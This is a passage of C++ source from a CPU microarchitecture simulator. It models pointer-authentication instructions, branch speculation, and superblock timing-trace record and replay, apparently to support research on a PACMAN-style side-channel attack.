    uint64_t issue = cycle_ + 1;
    issue = std::max(issue, ready_[inst.rn]);
    if (regOffset(inst.op))
        issue = std::max(issue, ready_[inst.rm]);
    if (!is_load)
        issue = std::max(issue, ready_[inst.rd]);
    const Addr va = regs_[inst.rn] +
                    (regOffset(inst.op) ? regs_[inst.rm]
                                        : uint64_t(inst.imm));
    const auto res = mem_->access(
        is_load ? mem::AccessKind::Load : mem::AccessKind::Store,
        va, el_, false);
    if (res.fault != mem::Fault::None) {
        *status = archFault(res.fault, va,
                            is_load ? "data abort on load"
                                    : "data abort on store");
        return false;
    }
    const unsigned size = memSize(inst.op);
    const uint64_t done = issue + res.latency;
    if (is_load) {
        regs_[inst.rd] = mem_->loadValue(res, va, size);
        ready_[inst.rd] = done;
    } else {
        mem_->storeValue(res, va, regs_[inst.rd], size);
    }
    lastCompletion_ = std::max(lastCompletion_, done);
    return true;
}

bool
Core::execPac(const Inst &inst, ExitStatus *status)
{
    const uint64_t ptr = regs_[inst.rd];
    uint64_t issue = std::max(cycle_ + 1, ready_[inst.rd]);
    uint64_t value;
    if (inst.op == Opcode::XPAC) {
        value = isa::stripPac(ptr);
    } else {
        issue = std::max(issue, ready_[inst.rn]);
        const auto key = pacKey(isa::pacKeyOf(inst.op));
        const uint64_t mod = regs_[inst.rn];
        value = isa::isPacSign(inst.op)
                    ? isa::signPointer(ptr, mod, key)
                    : isa::authPointer(ptr, mod, key);
    }
    // ARMv8.6 FPAC: authentication failure faults at the aut
    // itself rather than poisoning the pointer.
    if (cfg_.fpac && isa::isPacAuth(inst.op) &&
        !isa::isCanonical(value)) {
        *status = archFault(mem::Fault::Permission, ptr,
                            "FPAC authentication failure");
        return false;
    }
    const uint64_t done = issue + cfg_.pacLat;
    regs_[inst.rd] = value;
    ready_[inst.rd] = done;
    lastCompletion_ = std::max(lastCompletion_, done);
    if (cfg_.autFence && isa::isPacAuth(inst.op)) {
        // PAC-agnostic execution: implicit ISB after aut.
        serialize(cfg_.isbDrain);
    }
    return true;
}

Addr
Core::execBranchDirect(const Inst &inst)
{
    ++stats_.branches;
    if (inst.op == Opcode::BL) {
        regs_[isa::LR] = pc_ + isa::InstBytes;
        ready_[isa::LR] = cycle_ + 1;
    }
    return pc_ + uint64_t(inst.imm);
}

bool
Core::execMrs(const Inst &inst, ExitStatus *status)
{
    const uint64_t issue = cycle_ + 1;
    bool undef = false;
    const uint64_t value = sysregRead(inst.sysreg, issue, &undef);
    if (undef) {
        status->kind =
            el_ == 0 ? ExitKind::CrashEl0 : ExitKind::KernelPanic;
        status->pc = pc_;
        status->reason = strprintf(
            "undefined MRS of %s at EL%u (pc=0x%llx)",
            isa::sysRegName(inst.sysreg).c_str(), el_,
            (unsigned long long)pc_);
        return false;
    }
    regs_[inst.rd] = value;
    ready_[inst.rd] = issue + cfg_.mrsLat;
    lastCompletion_ = std::max(lastCompletion_, ready_[inst.rd]);
    return true;
}

bool
Core::execMsr(const Inst &inst, ExitStatus *status)
{
    if (!sysregWrite(inst.sysreg, regs_[inst.rd])) {
        status->kind =
            el_ == 0 ? ExitKind::CrashEl0 : ExitKind::KernelPanic;
        status->pc = pc_;
        status->reason = strprintf(
            "illegal MSR of %s at EL%u (pc=0x%llx)",
            isa::sysRegName(inst.sysreg).c_str(), el_,
            (unsigned long long)pc_);
        return false;
    }
    serialize(cfg_.mrsLat); // MSR is self-synchronizing here
    return true;
}

ExitStatus
Core::run(uint64_t max_insts)
{
    for (uint64_t n = 0; n < max_insts; ++n) {
        // Fetch-group pacing: fetchWidth instructions per cycle.
        if (++fetchGroup_ >= cfg_.fetchWidth) {
            fetchGroup_ = 0;
            ++cycle_;
        }

        const FetchedInst f = fetch(pc_, false);
        if (!f.ok) {
            if (f.undefined) {
                // The word mapped and fetched fine but fails decode:
                // an undefined-instruction exception, not a
                // translation fault.
                ExitStatus status;
                status.kind = ExitKind::UndefinedInst;
                status.code = f.word;
                status.pc = pc_;
                status.reason = strprintf(
                    "undefined instruction 0x%08x at pc=0x%llx (EL%u)",
                    f.word, (unsigned long long)pc_, el_);
                return status;
            }
            return archFault(f.fault, pc_, "instruction fetch fault");
        }
        // Front-end stall on icache/iTLB misses.
        if (f.fetchLatency > mem_->config().lat.l1Hit)
            cycle_ += f.fetchLatency - mem_->config().lat.l1Hit;

        const Inst &inst = f.inst;

        // Committed-fast-path superblock dispatch: a straight-line
        // run starting here executes through the threaded loop in
        // runSuperblock(), which replays the interpreter's exact
        // per-instruction side effects. Only attempted with no trace
        // hook armed and a cacheable PA in hand; ineligible opcodes
        // and every block exit fall through to the interpreter below.
        if (cfg_.superblocks && !traceHook_ && f.hasPa) {
            SbOpKind kind0;
            if (sbKindFor(inst.op, &kind0)) {
                superblocks_.syncEpoch(mem_->fetchEpoch(), &sbStats_);
                Superblock *sb =
                    superblocks_.lookup(f.pa, f.pageGen, &sbStats_);
                if (sb) {
                    ++sbStats_.blockHits;
                } else {
                    sb = &superblocks_.insertSlot(f.pa, f.pageGen);
                    buildSuperblock(*sb, mem_->phys(),
                                    cfg_.superblockMaxOps);
                    ++sbStats_.blocksBuilt;
                }
                const SbMode mode = chooseSbMode(*sb);
                ExitStatus status;
                bool exited = false;
                const uint64_t executed = runSuperblock(
                    *sb, max_insts - n, &status, &exited, mode);
                sbStats_.blockInsts += executed;
                if (mode == SbMode::Record)
                    finalizeTraceRecord(*sb);
                if (exited)
                    return status;
                if (executed) {
                    n += executed - 1; // the loop header adds the last
                    continue;
                }
                // The entry op is a conditional branch the predictor
                // gets wrong: fall through — the interpreter below
                // runs it, speculation machinery and all.
            }
        }

        ++stats_.instsRetired;
        if (traceHook_)
            traceHook_(TraceRecord{pc_, inst, el_, false, cycle_});
        Addr next_pc = pc_ + isa::InstBytes;

        switch (isa::instClass(inst.op)) {
          case InstClass::Alu:
            execAlu(inst);
            break;

          case InstClass::Load:
          case InstClass::Store: {
            ExitStatus status;
            if (!execMem(inst, &status))
                return status;
            break;
          }

          case InstClass::BranchCond: {
            ++stats_.branches;
            const Addr taken_target = pc_ + uint64_t(inst.imm);
            bool actual;
            uint64_t op_ready;
            if (inst.op == Opcode::BCOND) {
                actual = isa::condHolds(inst.cond, flags_);
                op_ready = flagsReady_;
            } else {
                const bool zero = regs_[inst.rd] == 0;
                actual = inst.op == Opcode::CBZ ? zero : !zero;
                op_ready = ready_[inst.rd];
            }
            const bool predicted = predictor_.predict(pc_);
            const uint64_t resolve =
                std::max(cycle_ + 1, op_ready) + cfg_.branchResolveLat;
            predictor_.update(pc_, actual);
            if (predicted != actual) {
                ++stats_.branchMispredicts;
                SpecContext &ctx = specCtx_[0];
                ctx.regs = regs_;
                ctx.ready = ready_;
                ctx.poison.fill(false);
                ctx.taint.fill(false);
                ctx.flags = flags_;
                ctx.flagsReady = flagsReady_;
                ctx.flagsPoison = false;
                unsigned rob = cfg_.robSize;
                speculate(predicted ? taken_target : next_pc, cycle_ + 1,
                          resolve, ctx, rob, 0);
                cycle_ = resolve + cfg_.redirectPenalty;
                fetchGroup_ = 0;
            }
            if (actual)
                next_pc = taken_target;
            break;
          }

          case InstClass::BranchDirect:
            next_pc = execBranchDirect(inst);
            break;

          case InstClass::BranchIndirect: {
            ++stats_.branches;
            uint64_t target = regs_[inst.rn];
            uint64_t target_ready = ready_[inst.rn];
            // Combined authenticate-and-branch: the target is the
            // authenticated pointer and resolves a QARMA latency
            // later. A failed authentication poisons the target (or
            // faults right here under FPAC); the branch to a poisoned
            // target then faults at its fetch.
            if (isa::isAuthBranch(inst.op)) {
                const auto key = pacKey(isa::pacKeyOf(inst.op));
                target = isa::authPointer(target, regs_[inst.rm], key);
                target_ready = std::max(target_ready, ready_[inst.rm]) +
                               cfg_.pacLat;
                if (cfg_.fpac && !isa::isCanonical(target)) {
                    return archFault(mem::Fault::Permission,
                                     regs_[inst.rn],
                                     "FPAC authentication failure");
                }
            }
            const auto predicted = btb_.lookup(pc_);
            const uint64_t resolve =
                std::max(cycle_ + 1, target_ready) +
                cfg_.branchResolveLat;
            btb_.update(pc_, target);
            if (inst.op == Opcode::BLR ||
                inst.op == Opcode::BLRAA) {
                regs_[isa::LR] = pc_ + isa::InstBytes;
                ready_[isa::LR] = cycle_ + 1;
            }
            if (predicted && *predicted != target) {
                ++stats_.branchMispredicts;
                SpecContext &ctx = specCtx_[0];
                ctx.regs = regs_;
                ctx.ready = ready_;
                ctx.poison.fill(false);
                ctx.taint.fill(false);
                ctx.flags = flags_;
                ctx.flagsReady = flagsReady_;
                ctx.flagsPoison = false;
                unsigned rob = cfg_.robSize;
                speculate(*predicted, cycle_ + 1, resolve, ctx, rob, 0);
                cycle_ = resolve + cfg_.redirectPenalty;
                fetchGroup_ = 0;
            } else if (!predicted) {
                // BTB miss: the front end waits for the target.
                cycle_ = resolve;
                fetchGroup_ = 0;
            }
            next_pc = target;
            break;
          }

          case InstClass::PacSign:
          case InstClass::PacAuth: {
            ExitStatus status;
            if (!execPac(inst, &status))
                return status;
            break;
          }

          case InstClass::System: {
            switch (inst.op) {
              case Opcode::MRS: {
                ExitStatus status;
                if (!execMrs(inst, &status))
                    return status;
                break;
              }
              case Opcode::MSR: {
                ExitStatus status;
                if (!execMsr(inst, &status))
                    return status;
                break;
              }
              case Opcode::SVC: {
                if (el_ != 0) {
                    ExitStatus status;
                    status.kind = ExitKind::KernelPanic;
                    status.pc = pc_;
                    status.reason = "nested SVC at EL1";
                    return status;
                }
                ++stats_.syscalls;
                sysregs_[size_t(SysReg::ELR_EL1)] =
                    pc_ + isa::InstBytes;
                sysregs_[size_t(SysReg::ESR_EL1)] = uint64_t(inst.imm);
                el_ = 1;
                serialize(cfg_.svcLat);
                next_pc = sysregs_[size_t(SysReg::VBAR_EL1)];
                break;
              }
              case Opcode::ERET: {
                if (el_ != 1) {
                    ExitStatus status;
                    status.kind = ExitKind::CrashEl0;
                    status.pc = pc_;
                    status.reason = "ERET at EL0";
                    return status;
                }
                el_ = 0;
                serialize(cfg_.eretLat);
                next_pc = sysregs_[size_t(SysReg::ELR_EL1)];
                break;
              }
              case Opcode::HLT: {
                ExitStatus status;
                status.kind = ExitKind::Halted;
                status.code = uint64_t(inst.imm);
                status.pc = pc_;
                return status;
              }
              case Opcode::BRK: {
                ExitStatus status;
                status.kind = ExitKind::Breakpoint;
                status.code = uint64_t(inst.imm);
                status.pc = pc_;
                status.reason = strprintf("brk #%llu",
                                          (unsigned long long)inst.imm);
                return status;
              }
              default:
                panic("unhandled system op %s",
                      isa::opcodeName(inst.op).c_str());
            }
            break;
          }

          case InstClass::Barrier:
            serialize(cfg_.isbDrain);
            break;
        }

        pc_ = next_pc;
    }

    ExitStatus status;
    status.kind = ExitKind::MaxInsts;
    status.pc = pc_;
    status.reason = "instruction budget exhausted";
    return status;
}

namespace
{

/** Consecutive soft misses (fingerprint or mid-replay VA divergence)
 *  before a recorded trace is dropped and re-recorded. */
constexpr uint8_t SoftMissLimit = 4;

/** Dispatches to run live before retrying a recording that failed on
 *  a non-all-hit walk. The failed run itself warms the structures, so
 *  the retry usually lands immediately — and the backoff must be
 *  short because guard breaks are routine, not exceptional: the
 *  attack's own Prime+Probe traversals break a hot block's guards
 *  several times per oracle query, and every break funnels through a
 *  (likely failing, freshly-evicted) record attempt. Raising this to
 *  8 costs ~20 % of Figure-8 training-loop throughput by keeping hot
 *  blocks live between evictions (BENCH_PR10). */
constexpr uint16_t RecordBackoffDispatches = 2;

} // anonymous namespace

uint64_t
Core::regsFingerprint(uint64_t mask) const
{
    // Order-sensitive splitmix-style fold over the named registers. A
    // collision only costs a mid-replay VA divergence (the per-op
    // check below is the definitive guard), never correctness.
    uint64_t h = 0x9e3779b97f4a7c15ull;
    for (uint64_t m = mask; m != 0; m &= m - 1) {
        uint64_t x = h ^ regs_[unsigned(std::countr_zero(m))];
        x *= 0xbf58476d1ce4e5b9ull;
        x ^= x >> 27;
        h = x;
    }
    return h;
}

bool
Core::traceGuardHolds(const TimingTrace &trace)
{
    for (const TimingTrace::Guard &g : trace.guards) {
        const uint64_t now =
            g.structId == TimingTrace::GuardStruct::Dtlb
                ? mem_->dtlb().setGen(g.set)
                : mem_->l1d().setGen(g.set);
        if (now == g.label)
            continue;
        // Attribute the break for telemetry: if a known disturbance
        // source ran since the recording, charge it; otherwise this
        // is plain cross-access eviction (a Prime+Probe traversal,
        // wrong-path fills, another block's misses). The labels stay
        // the ground truth either way.
        ++sbStats_.traceGuardBreaks;
        if (mem_->flushDisturbances() != trace.disturbFlush)
            ++sbStats_.traceBreakFlush;
        else if (mem_->noiseDisturbances() != trace.disturbNoise)
            ++sbStats_.traceBreakNoise;
        else
            ++sbStats_.traceBreakEviction;
        return false;
    }
    return true;
}

bool
Core::beginTraceRecord(Superblock &sb)
{
    TimingTrace &trace = sb.trace;
    trace.memOps.clear();
    trace.guards.clear();
    trace.recFailed = false;
    trace.recDevice = false;
    trace.el = uint8_t(el_);

    // Entry-live address registers: those some data op's address
    // computation reads before anything earlier in the block writes
    // them. Hashing their dispatch-time values gives a fast whole-
    // block pre-check that the recorded addresses will recur; the
    // per-op VA comparison during replay remains the definitive
    // guard, so over- or under-approximation here only moves the
    // replay rate, never correctness.
    uint64_t written = 0;
    uint64_t addr_regs = 0;
    bool has_mem = false;
    for (const SuperblockOp &o : sb.ops) {
        const Inst &i = o.inst;
        switch (o.kind) {
          case SbOpKind::Load:
          case SbOpKind::Store:
            has_mem = true;
            if (!(written & (uint64_t(1) << i.rn)))
                addr_regs |= uint64_t(1) << i.rn;
            if (regOffset(i.op) && !(written & (uint64_t(1) << i.rm)))
                addr_regs |= uint64_t(1) << i.rm;
            if (o.kind == SbOpKind::Load)
                written |= uint64_t(1) << i.rd;
            break;
          case SbOpKind::Alu:
            // Mirrors aluExec: every ALU form writes rd except the
            // compares and NOP.
            if (i.op != Opcode::CMP && i.op != Opcode::CMPI &&
                i.op != Opcode::NOP) {
                written |= uint64_t(1) << i.rd;
            }
            break;
          case SbOpKind::Pac:
          case SbOpKind::Mrs:
            written |= uint64_t(1) << i.rd;
            break;
          case SbOpKind::Branch:
            if (i.op == Opcode::BL)
                written |= uint64_t(1) << isa::LR;
            break;
          case SbOpKind::BranchCond:
          case SbOpKind::Msr:
          case SbOpKind::Barrier:
            break;
        }
    }
    if (!has_mem)
        return false; // pure-ALU block: nothing to memoize
    trace.addrRegMask = addr_regs;
    trace.regFingerprint = regsFingerprint(addr_regs);
    return true;
}

Core::SbMode
Core::chooseSbMode(Superblock &sb)
{
    if (!cfg_.timingTraces)
        return SbMode::Live;
    TimingTrace &trace = sb.trace;

    const auto rerecord = [&]() -> SbMode {
        trace.reset();
        if (!beginTraceRecord(sb)) {
            trace.state = TimingTrace::State::Ineligible;
            return SbMode::Live;
        }
        return SbMode::Record;
    };

    switch (trace.state) {
      case TimingTrace::State::Ineligible:
        return SbMode::Live;
      case TimingTrace::State::None:
        if (trace.recordBackoff > 0) {
            --trace.recordBackoff;
            return SbMode::Live;
        }
        return rerecord();
      case TimingTrace::State::Recorded:
        break;
    }

    if (trace.el != el_) {
        // The same physical code dispatched at the other EL: the
        // recorded permission outcomes don't transfer. Re-record.
        ++sbStats_.traceBreakEl;
        return rerecord();
    }
    if (!traceGuardHolds(trace)) {
        // A guarded set's membership changed (attributed inside the
        // check): the recorded ways/lines may be gone. Re-record —
        // this dispatch's live walk re-warms the structures.
        return rerecord();
    }
    if (regsFingerprint(trace.addrRegMask) != trace.regFingerprint) {
        // Same code, different addresses (pointer-chasing, a moved
        // buffer): run live but keep the trace — the old addresses
        // often come back (loop re-entry). Re-record only after
        // several consecutive misses.
        ++sbStats_.traceSoftMisses;
        if (++trace.softMisses >= SoftMissLimit)
            return rerecord();
        return SbMode::Live;
    }
    ++sbStats_.traceReplays;
    return SbMode::Replay;
}

bool
Core::execMemRecord(const Inst &inst, ExitStatus *status,
                    uint16_t op_idx, Superblock &sb)
{
    // Live execution, identical to execMem() — plus the hit-path
    // capture below.
    const bool is_load = isa::instClass(inst.op) == InstClass::Load;
    uint64_t issue = cycle_ + 1;
    issue = std::max(issue, ready_[inst.rn]);
    if (regOffset(inst.op))
        issue = std::max(issue, ready_[inst.rm]);
    if (!is_load)
        issue = std::max(issue, ready_[inst.rd]);
    const Addr va = regs_[inst.rn] +
                    (regOffset(inst.op) ? regs_[inst.rm]
                                        : uint64_t(inst.imm));
    mem::AccessTrace at;
    const auto res = mem_->access(
        is_load ? mem::AccessKind::Load : mem::AccessKind::Store,
        va, el_, false, &at);
    if (res.fault != mem::Fault::None) {
        *status = archFault(res.fault, va,
                            is_load ? "data abort on load"
                                    : "data abort on store");
        return false;
    }
    const unsigned size = memSize(inst.op);
    const uint64_t done = issue + res.latency;
    if (is_load) {
        regs_[inst.rd] = mem_->loadValue(res, va, size);
        ready_[inst.rd] = done;
    } else {
        mem_->storeValue(res, va, regs_[inst.rd], size);
    }
    lastCompletion_ = std::max(lastCompletion_, done);

    // Capture. Only an all-hit, non-device walk is replayable: it
    // runs no victim logic, so its effect sequence is insensitive to
    // what other accesses interleave between dispatches (as long as
    // the guarded set memberships hold).
    TimingTrace &trace = sb.trace;
    if (trace.recFailed)
        return true;
    if (res.isDevice) {
        trace.recFailed = true;
        trace.recDevice = true;
        return true;
    }
    if (!at.l1TlbHit || !at.l1CacheHit) {
        trace.recFailed = true;
        return true;
    }
    mem::Tlb &dtlb = mem_->dtlb();
    mem::Tlb::Way *way = dtlb.wayFor(
        isa::pageNumber(isa::vaPart(va)),
        isa::isKernelVa(va) ? mem::Asid::Kernel : mem::Asid::User);
    mem::Cache::Line *line = mem_->l1d().lineFor(res.pa);
    if (!way || !line) {
        trace.recFailed = true; // unreachable after a hit; stay safe
        return true;
    }
    TimingTrace::MemOp rec;
    rec.opIdx = op_idx;
    rec.way = uint32_t(dtlb.indexOf(way));
    rec.line = uint32_t(mem_->l1d().indexOf(line));
    rec.va = va;
    trace.memOps.push_back(rec);
    return true;
}

bool
Core::execMemReplay(const Inst &inst, const TimingTrace::MemOp &rec)
{
    const bool is_load = isa::instClass(inst.op) == InstClass::Load;
    uint64_t issue = cycle_ + 1;
    issue = std::max(issue, ready_[inst.rn]);
    if (regOffset(inst.op))
        issue = std::max(issue, ready_[inst.rm]);
    if (!is_load)
        issue = std::max(issue, ready_[inst.rd]);
    const Addr va = regs_[inst.rn] +
                    (regOffset(inst.op) ? regs_[inst.rm]
                                        : uint64_t(inst.imm));
    if (va != rec.va)
        return false; // divergence: nothing applied, caller runs live

    // The guarded set labels guarantee the recorded way/line still
    // hold this VA's translation and line, and the pinned entry EL
    // makes the recorded permission outcome (no fault) re-apply.
    // Replay the two hits with exactly the live walk's bookkeeping
    // and re-derive the PA from the live mapping; an all-hit walk
    // adds no TLB latency, so the access costs exactly the (current,
    // migration-aware) L1 load-to-use latency.
    mem::Tlb &dtlb = mem_->dtlb();
    mem::Tlb::Way *way = dtlb.wayAt(rec.way);
    dtlb.rehit(way);
    mem::Cache &l1d = mem_->l1d();
    l1d.rehit(l1d.lineAt(rec.line));
    const Addr pa = (way->entry.ppn << isa::PageShift) |
                    isa::pageOffset(isa::vaPart(va));
    const uint64_t done = issue + mem_->config().lat.l1Hit;
    if (is_load) {
        regs_[inst.rd] = mem_->phys().read(pa, memSize(inst.op));
        ready_[inst.rd] = done;
    } else {
        mem_->phys().write(pa, regs_[inst.rd], memSize(inst.op));
    }
    lastCompletion_ = std::max(lastCompletion_, done);
    return true;
}

void
Core::finalizeTraceRecord(Superblock &sb)
{
    TimingTrace &trace = sb.trace;
    if (trace.recFailed) {
        ++sbStats_.traceRecordFailures;
        const bool device = trace.recDevice;
        trace.reset();
        if (device) {
            // Device timing bypasses the hierarchy walk entirely:
            // never replayable, stop burning record attempts.
            trace.state = TimingTrace::State::Ineligible;
        } else {
            trace.recordBackoff = RecordBackoffDispatches;
        }
        return;
    }
    if (trace.memOps.empty()) {
        // The dispatch bailed before reaching any data op (entry-op
        // mispredict or an early trace exit). Nothing was captured;
        // stay None and record on a fuller run.
        return;
    }

    // Belt-and-braces: verify every recorded way/line still holds its
    // translation/line at end of block before publishing. In-block
    // code cannot structurally touch the dTLB or L1D (data ops were
    // all hits, fetch crossings fill the L1I/L2/SLC only), so a
    // failure here would mean the all-hit reasoning has a hole — we
    // degrade to a record failure rather than publish a bad trace.
    mem::Tlb &dtlb = mem_->dtlb();
    mem::Cache &l1d = mem_->l1d();
    for (const TimingTrace::MemOp &rec : trace.memOps) {
        mem::Tlb::Way *way = dtlb.wayFor(
            isa::pageNumber(isa::vaPart(rec.va)),
            isa::isKernelVa(rec.va) ? mem::Asid::Kernel
                                    : mem::Asid::User);
        if (!way || dtlb.indexOf(way) != rec.way) {
            ++sbStats_.traceRecordFailures;
            trace.reset();
            trace.recordBackoff = RecordBackoffDispatches;
            return;
        }
        const Addr pa = (way->entry.ppn << isa::PageShift) |
                        isa::pageOffset(isa::vaPart(rec.va));
        mem::Cache::Line *line = l1d.lineFor(pa);
        if (!line || l1d.indexOf(line) != rec.line) {
            ++sbStats_.traceRecordFailures;
            trace.reset();
            trace.recordBackoff = RecordBackoffDispatches;
            return;
        }
    }

    // One guard per distinct set the trace touches, labelled with the
    // set's current generation (unchanged since the ops ran — see the
    // verification argument above).
    const uint32_t tlb_ways = dtlb.config().ways;
    const uint32_t l1d_ways = l1d.config().ways;
    auto guard = [&trace](TimingTrace::GuardStruct s, uint32_t set,
                          uint64_t label) {
        for (const TimingTrace::Guard &g : trace.guards) {
            if (g.structId == s && g.set == set)
                return;
        }
        trace.guards.push_back({s, set, label});
    };
    for (const TimingTrace::MemOp &rec : trace.memOps) {
        const uint32_t tset = rec.way / tlb_ways;
        guard(TimingTrace::GuardStruct::Dtlb, tset, dtlb.setGen(tset));
        const uint32_t cset = rec.line / l1d_ways;
        guard(TimingTrace::GuardStruct::L1d, cset, l1d.setGen(cset));
    }
    trace.disturbNoise = mem_->noiseDisturbances();
    trace.disturbFlush = mem_->flushDisturbances();
    trace.softMisses = 0;
    trace.state = TimingTrace::State::Recorded;
    ++sbStats_.tracesRecorded;
}

// Threaded dispatch: on GNU-compatible compilers each op jumps
// through a label table (computed goto); elsewhere a dense switch
// provides the same control flow.
#if defined(__GNUC__) || defined(__clang__)
#define PACMAN_SB_COMPUTED_GOTO 1
#else
#define PACMAN_SB_COMPUTED_GOTO 0
#endif

uint64_t
Core::runSuperblock(Superblock &sb, uint64_t budget,
                    ExitStatus *status, bool *exited, SbMode mode)
{
    // Timing-trace state. The replay cursor walks the recorded data
    // ops in lockstep with execution: block execution always covers a
    // contiguous prefix of ops[] (a branch resolving off-trace exits
    // at the pc check in sb_next), so the k-th data op executed is
    // the k-th recorded. Divergence (length or address) is a soft
    // miss: the op and the rest of the block run live, the trace
    // survives. A replay that never diverged resets the consecutive-
    // miss counter on exit, whichever exit path is taken.
    TimingTrace &trace = sb.trace;
    size_t cursor = 0;
    struct ReplayReset
    {
        const SbMode &mode;
        TimingTrace &trace;
        ~ReplayReset()
        {
            if (mode == SbMode::Replay)
                trace.softMisses = 0;
        }
    } replay_reset{mode, trace};

    // Entry-time fast-path state. The run() loop just completed the
    // architectural fetch of op 0, so the iTLB holds this page's
    // translation and the L1I holds the entry line; data ops never
    // touch either structure and nothing invalidates mid-block, so
    // the pointers stay valid for the whole run.
    mem::Tlb &itlb = mem_->itlb(el_);
    mem::Tlb::Way *way = itlb.wayFor(
        isa::pageNumber(isa::vaPart(pc_)),
        isa::isKernelVa(pc_) ? mem::Asid::Kernel : mem::Asid::User);
    mem::Cache::Line *line = mem_->l1i().lineFor(sb.pa);
    PACMAN_ASSERT(way != nullptr && line != nullptr,
                  "superblock entry state missing after fetch");

    const uint64_t l1_lat = mem_->config().lat.l1Hit;
    const unsigned line_shift =
        floorLog2(mem_->config().l1i.lineBytes);
    const Addr pa_base = sb.pa & ~isa::Addr(isa::PageMask);
    const Addr va_base = pc_ & ~isa::Addr(isa::PageMask);
    Addr pa = sb.pa;
    uint64_t cur_line = pa >> line_shift;
    const SuperblockOp *op = sb.ops.data();
    const SuperblockOp *const end = op + sb.ops.size();
    uint64_t executed = 0;

    // Resolved direction of a conditional branch op — side-effect
    // free: flags and registers are architectural (final) once the
    // preceding op has completed.
    const auto condActual = [this](const isa::Inst &bi) {
        if (bi.op == Opcode::BCOND)
            return isa::condHolds(bi.cond, flags_);
        const bool zero = regs_[bi.rd] == 0;
        return bi.op == Opcode::CBZ ? zero : !zero;
    };

    // Per-op sequence, identical to one interpreter iteration: the
    // caller (or the `next` replay below) has already paced the fetch
    // group and touched the hierarchy; here we retire, execute, and
    // step pc_. Stores re-check the page's write generation so
    // self-modifying code into the running block falls back before a
    // stale decoded op can execute. Conditional branches peek their
    // outcome against the predictor first — with no side effect at
    // all — and bail to the interpreter on a mispredict, which owns
    // the speculation machinery.
#if PACMAN_SB_COMPUTED_GOTO
    static const void *const kDispatch[] = {
        &&sb_alu, &&sb_load, &&sb_store, &&sb_pac, &&sb_branch,
        &&sb_branch_cond, &&sb_mrs, &&sb_msr, &&sb_barrier};

  sb_dispatch:
    goto *kDispatch[size_t(op->kind)];

  sb_alu:
    ++stats_.instsRetired;
    ++executed;
    execAlu(op->inst);
    pc_ += isa::InstBytes;
    goto sb_next;

  sb_load:
    ++stats_.instsRetired;
    ++executed;
    if (mode == SbMode::Replay) {
        if (cursor < trace.memOps.size() &&
            trace.memOps[cursor].opIdx ==
                uint16_t(op - sb.ops.data()) &&
            execMemReplay(op->inst, trace.memOps[cursor])) {
            ++cursor;
            ++sbStats_.traceOpsReplayed;
            pc_ += isa::InstBytes;
            goto sb_next;
        }
        mode = SbMode::Live; // soft miss: live for the rest
        ++trace.softMisses;
        ++sbStats_.traceSoftMisses;
    } else if (mode == SbMode::Record) {
        if (!execMemRecord(op->inst, status,
                           uint16_t(op - sb.ops.data()), sb))
            goto sb_fault;
        pc_ += isa::InstBytes;
        goto sb_next;
    }
    if (!execMem(op->inst, status))
        goto sb_fault;
    pc_ += isa::InstBytes;
    goto sb_next;

  sb_store:
    ++stats_.instsRetired;
    ++executed;
    if (mode == SbMode::Replay) {
        if (cursor < trace.memOps.size() &&
            trace.memOps[cursor].opIdx ==
                uint16_t(op - sb.ops.data()) &&
            execMemReplay(op->inst, trace.memOps[cursor])) {
            ++cursor;
            ++sbStats_.traceOpsReplayed;
            if (mem_->phys().pageGen(sb.pa) != sb.gen)
                goto sb_smc;
            pc_ += isa::InstBytes;
            goto sb_next;
        }
        mode = SbMode::Live; // soft miss: live for the rest
        ++trace.softMisses;
        ++sbStats_.traceSoftMisses;
    } else if (mode == SbMode::Record) {
        if (!execMemRecord(op->inst, status,
                           uint16_t(op - sb.ops.data()), sb))
            goto sb_fault;
        if (mem_->phys().pageGen(sb.pa) != sb.gen)
            goto sb_smc;
        pc_ += isa::InstBytes;
        goto sb_next;
    }
    if (!execMem(op->inst, status))
        goto sb_fault;
    if (mem_->phys().pageGen(sb.pa) != sb.gen)
        goto sb_smc;
    pc_ += isa::InstBytes;
    goto sb_next;

  sb_pac:
    ++stats_.instsRetired;
    ++executed;
    if (!execPac(op->inst, status))
        goto sb_fault;
    pc_ += isa::InstBytes;
    goto sb_next;

  sb_branch:
    ++stats_.instsRetired;
    ++executed;
    pc_ = execBranchDirect(op->inst);
    goto sb_next;

  sb_mrs:
    ++stats_.instsRetired;
    ++executed;
    if (!execMrs(op->inst, status))
        goto sb_fault;
    pc_ += isa::InstBytes;
    goto sb_next;

  sb_msr:
    ++stats_.instsRetired;
    ++executed;
    if (!execMsr(op->inst, status))
        goto sb_fault;
    pc_ += isa::InstBytes;
    goto sb_next;

  sb_barrier:
    ++stats_.instsRetired;
    ++executed;
    serialize(cfg_.isbDrain);
    pc_ += isa::InstBytes;
    goto sb_next;

  sb_branch_cond: {
    const isa::Inst &bi = op->inst;
    const bool actual = condActual(bi);
    // Only the entry op can still mispredict here: later branches are
    // peeked in sb_next before their fetch is replayed. The entry
    // op's fetch came from the interpreter loop, which re-uses it on
    // the fall-through, so bailing costs no duplicate fetch effect.
    if (predictor_.predict(pc_) != actual)
        goto sb_bail;
    // Correctly predicted: the interpreter's exact effect is the
    // retire bookkeeping, the branch count, and the predictor
    // update — no cycle penalty in either direction.
    ++stats_.instsRetired;
    ++executed;
    ++stats_.branches;
    predictor_.update(pc_, actual);
    pc_ = actual ? pc_ + uint64_t(bi.imm) : pc_ + isa::InstBytes;
    goto sb_next;
  }

  sb_next:
    // The trace continues only where the architectural next pc (set
    // by the op above) is exactly the next op's address: a branch
    // resolving against the trace direction leaves the block here.
    if (++op == end || executed >= budget ||
        pc_ != (va_base | Addr(op->pageOff)))
        return executed;
    // A conditional branch the predictor will get wrong must not have
    // its fetch replayed: the block ends and the interpreter fetches
    // and executes it exactly once, speculation machinery and all.
    // Peeking before the replay keeps the fetch side effects —
    // l1i/iTLB touches and fetch-group pacing — bit-identical to the
    // slow path, which fetches a mispredicted branch only once.
    if (op->kind == SbOpKind::BranchCond &&
        predictor_.predict(pc_) != condActual(op->inst)) {
        ++sbStats_.fallbackExits;
        return executed;
    }
    pa = pa_base | Addr(op->pageOff);
    // Replay the architectural fetch of the next op: fetch-group
    // pacing, the iTLB hit, the L1I touch (or a real fill + front-end
    // stall on a line crossing) — the exact side-effect sequence the
    // interpreter's fetch() performs.
    if (++fetchGroup_ >= cfg_.fetchWidth) {
        fetchGroup_ = 0;
        ++cycle_;
    }
    itlb.rehit(way);
    if ((pa >> line_shift) == cur_line) {
        mem_->l1i().rehit(line);
    } else {
        cur_line = pa >> line_shift;
        const uint64_t lat = mem_->fetchLineAccess(pa, &line);
        if (lat > l1_lat)
            cycle_ += lat - l1_lat;
    }
    goto sb_dispatch;

  sb_smc:
